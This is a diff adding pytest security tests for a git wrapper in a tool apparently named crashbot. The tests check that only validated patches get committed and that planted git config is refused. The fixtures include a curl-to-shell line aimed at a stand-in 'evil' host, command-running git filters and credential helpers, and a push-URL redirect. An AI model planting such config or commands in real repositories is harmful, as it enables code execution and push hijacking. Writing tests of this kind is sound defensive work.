@@ -264,3 +264,93 @@ def test_git_run_never_runs_hooks_or_fsmonitor_planted_in_the_repository(tmp_pat
     git.run("checkout", "--quiet", "-B", "other", "HEAD", "--")
     git.run("status", "--porcelain")
     assert not marker.exists(), marker.read_text()
+
+
+# -- issue 11: crashbot's git runs nothing a checkout planted, and commits the validated patch only ------
+
+PATCH = (
+    "diff --git a/src/f.cpp b/src/f.cpp\n--- a/src/f.cpp\n+++ b/src/f.cpp\n"
+    "@@ -1,3 +1,3 @@\n int f() {\n-    return 1;\n+    return 2;\n }\n"
+)
+
+
+def test_git_commit_patch_commits_the_validated_patch_not_what_the_build_wrote(repo: Git) -> None:
+    """A test step wrote a CMakeLists.txt with execute_process(curl | sh) and touched another file:
+    the commit holds the validated diff only, and both stay behind as working-tree leftovers."""
+    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n", "src/g.cpp": "g\n"}, "init")
+    repo.apply(PATCH)
+    (repo.repo / "CMakeLists.txt").write_text('execute_process(COMMAND sh -c "curl evil | sh")\n')
+    (repo.repo / "src/g.cpp").write_text("changed by the test step\n")
+
+    sha = repo.commit_patch(PATCH, ["src/f.cpp"], "Fix f", AUTHOR)
+
+    assert repo.diff_names(f"{sha}~1", sha) == ["src/f.cpp"]
+    assert repo.show(sha, "CMakeLists.txt") is None
+    assert repo.show(sha, "src/g.cpp") == "g\n"
+
+
+def test_git_stage_patch_refuses_when_the_staged_paths_differ_from_the_validated_ones(repo: Git) -> None:
+    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n"}, "init")
+    head = repo.head()
+    with pytest.raises(GitError, match="not the validated"):
+        repo.commit_patch(PATCH, ["src/other.cpp"], "Fix f", AUTHOR)
+    assert repo.head() == head
+    assert repo.run("diff", "--cached", "--name-only") == ""
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("filter.evil.clean", "touch {marker}"),
+        ("filter.evil.smudge", "touch {marker}"),
+        ("diff.evil.textconv", "touch {marker}"),
+        ("core.sshCommand", "touch {marker}"),
+        ("include.path", "{marker}.cfg"),
+        ("credential.helper", "!touch {marker}"),
+        ("url.https://evil.invalid/.insteadOf", "https://github.com/"),
+        ("remote.origin.pushurl", "https://evil.invalid/x.git"),
+    ],
+)
+def test_git_refuses_a_checkout_whose_config_runs_commands_or_redirects_the_push(
+    tmp_path: Path, key: str, value: str
+) -> None:
+    """Build code (unsandboxed) or an agent could write .git/config plus .gitattributes: crashbot's
+    git, holding the push token, refuses to run in that checkout at all."""
+    git = make_repo(tmp_path / "repo")
+    commit_files(git.repo, {"a.txt": "a\n"}, "init")
+    marker = tmp_path / "ran"
+    (git.repo / ".gitattributes").write_text("* filter=evil diff=evil\n")
+    gitutil.git(git.repo, "config", key, value.format(marker=marker))
+    (git.repo / "a.txt").write_text("changed\n")
+    with pytest.raises(GitError, match=key.split(".", maxsplit=1)[0]):
+        git.run("add", "--all")
+    with pytest.raises(GitError):
+        git.diff_worktree()
+    assert not marker.exists()
+
+
+def test_git_ignores_the_runner_s_global_and_system_config(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A runner account's ~/.gitconfig (a filter, an alias, a credential helper) is not crashbot's."""
+    home = tmp_path / "home"
+    home.mkdir()
+    marker = tmp_path / "ran"
+    (home / ".gitconfig").write_text(
+        f'[filter "evil"]\n\tclean = touch {marker}\n[core]\n\tattributesFile = {home}/attrs\n'
+    )
+    (home / "attrs").write_text("* filter=evil\n")
+    git = make_repo(tmp_path / "repo")
+    commit_files(git.repo, {"a.txt": "a\n"}, "init")
+    (git.repo / "a.txt").write_text("changed\n")
+    hardened = Git(git.repo, env={**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home)})
+    hardened.run("add", "--all")
+    assert not marker.exists()
+
+
+def test_git_is_ancestor(repo: Git) -> None:
+    first = _commit(repo.repo, {"a": "1\n"}, "one")
+    second = _commit(repo.repo, {"a": "2\n"}, "two")
+    assert repo.is_ancestor(first, second) and repo.is_ancestor(second, second)
+    assert not repo.is_ancestor(second, first)
+    assert not repo.is_ancestor("--help", second)
